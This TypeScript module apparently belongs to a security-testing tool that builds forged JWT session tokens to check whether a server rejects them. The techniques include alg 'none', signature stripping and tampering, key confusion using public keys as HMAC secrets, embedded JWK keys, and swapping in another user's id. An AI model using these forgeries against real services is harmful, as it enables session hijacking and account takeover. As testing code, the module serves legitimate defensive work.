import {
  createHmac,
  createPublicKey,
  generateKeyPairSync,
  randomBytes,
  sign as signWithKey,
} from 'node:crypto';
import { isDeepStrictEqual } from 'node:util';
import type { SignedIn } from '../actors/signed-in.ts';
import { toFields, type Fields } from './fields.ts';
import {
  readToken,
  createUnsignedToken,
  encodePart,
  withClaims,
  type SessionToken,
} from './session-token.ts';

/** Hash functions of the symmetric signature algorithms (RFC 7518, section 3.2). */
const HMAC_HASHES: ReadonlyMap<unknown, string> = new Map([
  ['HS256', 'sha256'],
  ['HS384', 'sha384'],
  ['HS512', 'sha512'],
]);

/** Returns forged tokens with descriptions. @param secrets with which a deployment may sign sessions by mistake */
export function forgeSessions(
  user: SignedIn,
  other: SignedIn,
  secrets: readonly string[] = [],
): [string, string][] {
  const session = user.session ?? '';
  const [header = '', payload = '', signature = ''] = session.split('.');
  const middle = Math.floor(signature.length / 2);
  const flipped = signature[middle] === 'A' ? 'B' : 'A';
  const tampered = `${signature.slice(0, middle)}${flipped}${signature.slice(middle + 1)}`;
  const forged: [string, string][] = [
    ['with a different signature', `${header}.${payload}.${tampered}`],
    ['without its signature', `${header}.${payload}.`],
  ];
  const token = readToken(session);
  if (typeof token === 'string' || token.claims === null) return forged;
  const claimsOfOther = replaceUser(token.claims, user, other);
  if (claimsOfOther !== null) {
    const signed = signWithKnownSecret(session, token, claimsOfOther, secrets);
    if (signed !== null)
      forged.push(['of another user, signed with a secret of the client', signed]);
    forged.push(['with the id of another user', withClaims(session, claimsOfOther)]);
  }
  const withHeader = (newHeader: Fields) => `${encodePart(newHeader)}.${payload}`;
  const withUnknownKeyId = withHeader({ alg: 'HS256', typ: 'JWT', kid: 'unknown' });
  const signingInput = withHeader({ alg: 'HS256', typ: 'JWT' });
  forged.push(
    ['with the algorithm none and no signature', createUnsignedToken(token.claims)],
    ['with the algorithm NONE and no signature', `${withHeader({ alg: 'NONE', typ: 'JWT' })}.`],
    ['with an unknown key id, signed with an empty key', sign(withUnknownKeyId, 'sha256', '')],
    ['signed with the key in its header', signWithEmbeddedKey(token.header, payload)],
    ['signed with an unknown key', sign(signingInput, 'sha256', randomBytes(32))],
  );
  return forged;
}

/** Returns the payload signed with a new key, which the header contains (RFC 7515, section 4.1.3). */
function signWithEmbeddedKey(header: Fields, payload: string): string {
  const { publicKey, privateKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' });
  const jwk = publicKey.export({ format: 'jwk' });
  const signingInput = `${encodePart({ ...header, alg: 'ES256', jwk })}.${payload}`;
  const key = { key: privateKey, dsaEncoding: 'ieee-p1363' } as const;
  const signature = signWithKey('sha256', Buffer.from(signingInput), key).toString('base64url');
  return `${signingInput}.${signature}`;
}

/** Returns tokens signed with each published key as a shared secret (RFC 8725, section 2.1). */
export function signWithPublicKeys(session: string, keySet: unknown): [string, string][] {
  const token = readToken(session);
  const keys = toFields(keySet)?.['keys'];
  if (typeof token === 'string' || !Array.isArray(keys)) return [];
  const [, payload = ''] = session.split('.');
  const signingInput = `${encodePart({ ...token.header, alg: 'HS256' })}.${payload}`;
  return keys.flatMap((key: unknown): [string, string][] => {
    const pem = toPem(key);
    if (pem === null) return [];
    return [['signed with the public key as a secret', sign(signingInput, 'sha256', pem)]];
  });
}

function toPem(key: unknown): string | Buffer | null {
  try {
    return createPublicKey({ key: toFields(key) ?? {}, format: 'jwk' }).export({
      type: 'spki',
      format: 'pem',
    });
  } catch {
    return null;
  }
}

/** Returns the claims with the id of the other user; null if they would not change. */
function replaceUser(claims: Fields, user: SignedIn, other: SignedIn): Fields | null {
  const { userId } = user;
  const otherId = other.userId;
  if (userId === null || otherId === null) return null;
  const replaceId = (_name: string, value: unknown) =>
    typeof value === 'string' ? value.split(userId).join(otherId) : value;
  const newClaims = toFields(JSON.parse(JSON.stringify(claims), replaceId));
  return isDeepStrictEqual(newClaims, claims) ? null : newClaims;
}

/** Returns a token with other claims if one of the secrets is the signing key; otherwise null. */
function signWithKnownSecret(
  session: string,
  token: SessionToken,
  claims: Fields,
  secrets: readonly string[],
): string | null {
  const [header = '', payload = ''] = session.split('.');
  const hash = HMAC_HASHES.get(token.header['alg']);
  if (hash === undefined) return null;
  const key = secrets.find((secret) => sign(`${header}.${payload}`, hash, secret) === session);
  return key === undefined ? null : sign(`${header}.${encodePart(claims)}`, hash, key);
}

function sign(signingInput: string, hash: string, key: string | Buffer): string {
  const signature = createHmac(hash, key).update(signingInput).digest('base64url');
  return `${signingInput}.${signature}`;
}
